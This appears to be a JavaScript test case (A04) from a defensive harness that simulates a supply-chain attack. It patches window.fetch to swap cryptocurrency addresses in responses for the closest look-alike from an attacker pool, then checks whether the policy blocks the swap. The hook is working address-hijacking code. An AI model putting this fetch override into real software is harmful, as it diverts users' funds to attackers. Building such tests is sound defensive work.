// A04: the nearest look-alike by edit distance is chosen from a pool and put into the response.
import { names } from './logs.mjs';

export default {
  id: 'A04',
  title: 'nearest look-alike chosen from a pool, in a response',
  source: 'chalk/debug, 8 September 2025',
  level: 'prevented',
  policy: (a) => ({ version: 1, payees: [`${a.chain}:${a.GOOD}`] }),

  attack(a) {
    const distance = (left, right) => {
      const rows = Array.from({ length: left.length + 1 }, (_, i) => [i]);
      for (let j = 1; j <= right.length; j += 1) rows[0][j] = j;
      for (let i = 1; i <= left.length; i += 1) {
        for (let j = 1; j <= right.length; j += 1) {
          const swap = rows[i - 1][j - 1] + (left[i - 1] === right[j - 1] ? 0 : 1);
          rows[i][j] = Math.min(rows[i - 1][j] + 1, rows[i][j - 1] + 1, swap);
        }
      }
      return rows[left.length][right.length];
    };
    const pool = [a.EVIL, a.LOOKALIKE, a.SPENDER];
    const nearest = (address) =>
      pool
        .map((candidate) => [distance(address.toLowerCase(), candidate.toLowerCase()), candidate])
        .sort(([one], [other]) => one - other)[0][1];
    const before = fetch;
    window.fetch = async (...args) => {
      const text = await (await before(...args)).text();
      return new Response(text.replace(/\b0x[a-fA-F0-9]{40}\b/g, nearest));
    };
  },

  async action(a, app) {
    return app.fetchDepositAddress();
  },

  stolen: ({ result, a }) => names(result, a.LOOKALIKE),
  arrived: ({ result, a }) => names(result, a.GOOD) && !names(result, a.LOOKALIKE),
  violation: { surface: 'fetch', grade: 'tamper' },
};
